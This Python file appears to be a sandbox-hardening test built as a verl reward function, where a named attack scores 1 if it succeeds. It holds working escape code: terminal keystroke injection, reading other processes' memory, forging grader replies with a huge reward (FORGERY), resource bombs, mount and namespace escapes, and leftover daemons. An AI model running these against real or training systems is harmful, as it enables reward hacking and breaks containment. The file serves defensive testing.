"""A verl function that attacks: NAME or NAME=ARGUMENT as the response. 1 when the attack reached what it was after, 0 when
the machine held; what it tried stands in the output. Each is a break that a sandbox before this one had, or one like it."""

import ctypes
import fcntl
import glob
import mmap
import os
import select
import signal
import socket
import struct
import subprocess
import sys
import tempfile
import termios
import time

LIBC = ctypes.CDLL(None, use_errno=True)
MIB = 1 << 20


def checked(result):
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result


def system_call(number, *arguments):
    return checked(LIBC.syscall(number, *arguments))


def any_of(attempts):
    """Whether one of them went through; why each of the others did not is said."""
    for attempt in attempts:
        try:
            attempt()
            return True
        except (OSError, ValueError, AssertionError) as error:
            print(f"{getattr(attempt, '__name__', attempt)}: {error}", file=sys.stderr)
    return False


# Terminals


def open_terminal(path):
    return os.open(path, os.O_RDONLY | os.O_NONBLOCK | os.O_NOCTTY)


def type_into_terminal(path):
    def type_into(name):
        for byte in b"touch /tmp/typed\n":
            fcntl.ioctl(open_terminal(name), termios.TIOCSTI, bytes([byte]))

    def through_a_descriptor():
        for descriptor in range(3):
            fcntl.ioctl(descriptor, termios.TIOCSTI, b"x")

    return any_of([lambda: type_into("/dev/tty"), lambda: type_into(path), through_a_descriptor])


def read_terminal(path):
    def read(name):
        settings = termios.tcgetattr(open_terminal(name))
        settings[3] &= ~termios.ECHO
        termios.tcsetattr(open_terminal(name), termios.TCSANOW, settings)

    return any_of([lambda: os.close(open_terminal(path)), lambda: read("/dev/tty")])


def open_device(_):
    """Any but those that reach nobody."""
    harmless = {"null", "zero", "full", "random", "urandom"}
    devices = [path for path in glob.glob("/dev/*") if os.path.basename(path) not in harmless and not os.path.isdir(path)]
    devices = [path for path in devices if not os.path.islink(path)]
    return any_of([lambda path=path: os.close(os.open(path, os.O_RDONLY | os.O_NONBLOCK)) for path in devices])


# Other processes


def others(what):
    """Numbers of processes of this run whose command line holds `what`, but ours and our ancestors. The first process of a namespace
    obeys no signal from inside."""
    own, parent = {1}, os.getpid()
    while parent > 0:
        own.add(parent)
        try:
            parent = int(open(f"/proc/{parent}/stat").read().rpartition(")")[2].split()[1])
        except OSError:
            break
    found = []
    for path in glob.glob("/proc/[0-9]*/cmdline"):
        process = int(path.split("/")[2])
        try:
            is_of_this_run = os.getsid(process) == os.getsid(0)
            if process not in own and is_of_this_run and what in open(path).read().replace("\0", " "):
                found.append(process)
        except OSError:
            pass
    return found


def read_memory(process):
    with open(f"/proc/{process}/environ", "rb") as file:
        assert file.read()
    lines = open(f"/proc/{process}/maps").read().splitlines()
    start = next(line for line in lines if "[heap]" in line or "[stack]" in line).split("-")[0]
    with open(f"/proc/{process}/mem", "rb") as file:
        file.seek(int(start, 16))
        assert file.read(16)


def write_descriptors(process):
    for path in glob.glob(f"/proc/{process}/fd/*"):
        os.close(os.open(path, os.O_WRONLY | os.O_NONBLOCK))
        return
    raise OSError("no descriptor")


def reach_sibling(_):
    found = others("tandem_worker.grader")
    attempts = [lambda p=p: read_memory(p) for p in found] + [lambda p=p: write_descriptors(p) for p in found]
    return any_of(attempts)


def kill_sibling(_):
    """Signal 0 asks whether one could."""
    return any_of([lambda p=p: os.kill(p, 0) for p in others("tandem_worker.grader")])


def reach_trainer(process):
    return any_of([lambda: read_memory(int(process)), lambda: write_descriptors(int(process))])


def signal_process(process):
    return any_of([lambda: os.kill(int(process), 0), lambda: signal.pidfd_send_signal(os.pidfd_open(int(process)), 0)])


FORGERY = """
import ctypes, os, socket, struct, sys
reply = b'{"id": %d, "result": [{"call": %d, "grades": [{"reward": 123456.0, "extras": {}}]}]}'
parent, ways = os.getppid(), 0
for number in (3, 4, 5):
    try:
        handle = os.pidfd_open(parent)
        fd = ctypes.CDLL(None, use_errno=True).syscall(438, handle, number, 0)
        for i in range(1, 30):
            text = reply % (i, i - 2 if i > 2 else 1)
            os.write(fd, struct.pack("<I", len(text)) + text)
        ways += fd >= 0
    except OSError as error:
        print(error, file=sys.stderr)
    try:
        os.close(os.open(f"/proc/{parent}/fd/{number}", os.O_RDWR))
        ways += 1
    except OSError as error:
        print(error, file=sys.stderr)
try:
    with open(f"/proc/{parent}/mem", "r+b") as file:
        ways += 1
except OSError as error:
    print(error, file=sys.stderr)
sys.exit(ways)
"""


def forge_reply(_):
    """By a program that an honest reward runs."""
    return subprocess.run([sys.executable, "-c", FORGERY], check=False).returncode != 0


# Memory


def memfd(limit):
    descriptor = os.memfd_create("bomb")
    for _ in range(3 * int(limit) // MIB):
        os.write(descriptor, bytes(MIB))
    return True


def shared_segment(limit):
    for _ in range(3 * int(limit) // (64 * MIB)):
        segment = checked(LIBC.shmget(0, ctypes.c_size_t(64 * MIB), 0o1600))
        LIBC.shmat.restype = ctypes.c_void_p
        address = LIBC.shmat(segment, None, 0)
        if address == ctypes.c_void_p(-1).value:
            raise OSError(ctypes.get_errno(), "shmat")
        ctypes.memset(address, 1, 64 * MIB)
        LIBC.shmdt(ctypes.c_void_p(address))
    return True


def children_take_memory(limit):
    """Each half of what one process may have, and all at the same time: an end of one of them gives its memory back."""
    reader, writer = os.pipe()
    children = []
    for _ in range(8):
        children.append(os.fork())
        if children[-1] == 0:
            block = mmap.mmap(-1, int(limit) // 2)
            for offset in range(0, len(block), 4096):
                block[offset] = 1
            os.write(writer, b"y")
            time.sleep(1000)

    def all_run():
        return all(os.waitpid(child, os.WNOHANG) == (0, 0) for child in children)

    have_it = 0
    while have_it < len(children) and all_run():
        if select.select([reader], [], [], 0.05)[0]:
            have_it += len(os.read(reader, len(children)))
    time.sleep(0.5)  # for whoever looks now and then
    return have_it == len(children) and all_run()


def take_memory_to_share(limit):
    """Mapped to share with others, which no limit of a process counts."""
    block = mmap.mmap(-1, 3 * int(limit))
    for offset in range(0, len(block), 4096):
        block[offset] = 1
    time.sleep(1)
    return True


def badness(_):
    return open("/proc/self/oom_score_adj").read().strip() != "1000"


# Files


def deep_folder(depth):
    folder = os.open(tempfile.gettempdir(), os.O_RDONLY)
    for _ in range(int(depth)):
        os.mkdir("d", dir_fd=folder)
        below = os.open("d", os.O_RDONLY, dir_fd=folder)
        os.close(folder)
        folder = below
    return False


def fill_disk(limit):
    """With files of what one file may have."""
    written = 0
    for number in range(64):
        with open(os.path.join(tempfile.gettempdir(), f"fill{number}"), "wb", buffering=0) as file:
            for _ in range(64):
                written += file.write(bytes(MIB))
                if written > int(limit):
                    return True
    return False


def many_files(count):
    for number in range(int(count)):
        os.close(os.open(os.path.join(tempfile.gettempdir(), f"file{number}"), os.O_CREAT | os.O_WRONLY, 0o600))
    return True


def write_outside(path):
    return any_of([lambda: os.close(os.open(path, os.O_WRONLY)), lambda: os.truncate(path, 0),
                   lambda: os.close(os.open(path + ".new", os.O_CREAT | os.O_WRONLY))])  # fmt: skip


def write_into_pipe(path):
    """A named pipe, which a read-only mount lets write. Another process reads from it."""
    return any_of([lambda: os.write(os.open(path, os.O_WRONLY | os.O_NONBLOCK), b"forged line\n")])


def change_mode_outside(path):
    return any_of([lambda: os.chmod(path, 0o4777), lambda: os.utime(path), lambda: os.chown(path, 4321, 4321),
                   lambda: os.setxattr(path, "user.mark", b"x")])  # fmt: skip


# The kernel's other doors


def take_mounts_back(path):
    attributes = struct.pack("QQQQ", 0, 1, 0, 0)
    return any_of([lambda: (system_call(442, -100, b"/", 0x8000, attributes, 32), os.chmod(path, 0o4777)),
                   lambda: checked(LIBC.umount2(b"/proc", 2)),
                   lambda: checked(LIBC.mount(b"tmpfs", b"/mnt", b"tmpfs", 0, None))])  # fmt: skip


def newer_mounts(path):
    """Calls of Linux 6.15 and newer. Without a capability a descriptor of a mount of one's own, or a file's flags."""
    attributes = struct.pack("QIIII", 0x80, 0, 0, 0, 0)
    return any_of([lambda: os.close(system_call(467, -100, b"/", 0, None, 0)),
                   lambda: system_call(469, -100, path.encode(), attributes, len(attributes), 0)])  # fmt: skip


def show_memory_to_children(_):
    """A child opens the memory of the grader that has started it."""
    LIBC.prctl(4, 1, 0, 0, 0)
    program = "import os; os.close(os.open(f'/proc/{os.getppid()}/mem', os.O_RDWR))"
    return subprocess.run([sys.executable, "-c", program], stderr=subprocess.DEVNULL).returncode == 0


def new_namespace(_):
    flags = (0x10000000, 0x10000000 | 0x20000, 0x20000000, 0x08000000)
    return any_of([lambda f=f: checked(LIBC.unshare(f)) for f in flags] +
                  [lambda: system_call(56, 0x10000000 | 17, None, None, None, None)])  # fmt: skip


IMPORTED = {}


def while_imported(_):
    """What an attack came to when this file was imported: see attacks_import.py."""
    return IMPORTED["went_through"]


def datagram(path):
    here, _ = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
    here.sendto(b"<13>forged line", path)
    return True


def internet(_):
    return any_of([lambda: socket.socket(socket.AF_INET), lambda: socket.socket(socket.AF_INET6, socket.SOCK_DGRAM),
                   lambda: socket.socket(socket.AF_UNIX), lambda: socket.socket(socket.AF_NETLINK, socket.SOCK_RAW)])  # fmt: skip


def host_segment(number):
    LIBC.shmat.restype = ctypes.c_void_p
    attached = LIBC.shmat(int(number), None, 0)
    assert attached != ctypes.c_void_p(-1).value, os.strerror(ctypes.get_errno())
    return True


def read_key(name):
    number = system_call(250, 10, -3, b"user", name.encode(), 0)  # KEYCTL_SEARCH in the session keyring
    return system_call(250, 11, number, None, 0) >= 0  # KEYCTL_READ


# What a call leaves behind, and what it says


def leave_child(_):
    subprocess.Popen(["sleep", "1000"])
    return False


def leave_daemon(name):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.closerange(0, 64)
            os.execvp("sleep", [name, "1000"])
        os._exit(0)
    os.wait()
    return False


def leave_file(name):
    path = os.path.join(tempfile.gettempdir(), name)
    found = os.path.exists(path)
    open(path, "w").close()
    return found


def claim_process(process):
    """To whoever asks a descriptor for its owner, and to whoever reads our reply; then never answers."""
    for descriptor in range(3, 64):
        try:
            fcntl.fcntl(descriptor, fcntl.F_SETOWN, int(process))
        except OSError:
            pass
    time.sleep(1000)


def hold_processes(seconds):
    """As many as there may be, for a while."""
    count = 0
    try:
        while os.fork() != 0:
            count += 1
    except OSError:
        time.sleep(float(seconds))
        return count
    time.sleep(60)
    os._exit(0)


def start_processes(count):
    """So many at once, while another grader holds all that it may have."""
    time.sleep(1.0)
    children = []
    for _ in range(int(count)):
        child = os.fork()
        if child == 0:
            time.sleep(60)
            os._exit(0)
        children.append(child)
    for child in children:
        os.kill(child, signal.SIGKILL)
        os.waitpid(child, 0)
    return len(children)


def answer_much(num_bytes):
    """An answer of nothing but empty lists, which take forty times their length when they are read."""
    body = b'{"id": 2, "result": [' + b"[]," * (int(num_bytes) // 3) + b"0]}"
    view = memoryview(struct.pack("<I", len(body)) + body)
    while view:
        view = view[os.write(3, view):]  # fmt: skip
    time.sleep(1000)


def give(number):
    return float(number)


ATTACKS = {name: function for name, function in list(globals().items()) if callable(function)}


def score(data_source, solution_str, ground_truth):
    name, _, argument = solution_str.partition("=")
    return float(ATTACKS[name](argument))
